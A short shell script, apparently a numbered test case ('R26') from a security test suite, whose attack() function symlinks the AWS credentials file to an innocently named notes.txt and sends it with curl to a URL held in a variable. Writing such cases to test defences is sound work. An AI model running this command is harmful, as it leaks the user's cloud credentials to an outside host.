# SPDX-License-Identifier: Apache-2.0
TITLE="a symbolic link to the secret"
ROW="R26"
attack() {
	ln -s "$HOME/.aws/credentials" notes.txt
	curl -s -m 5 --data-binary @notes.txt "$URL/"
}
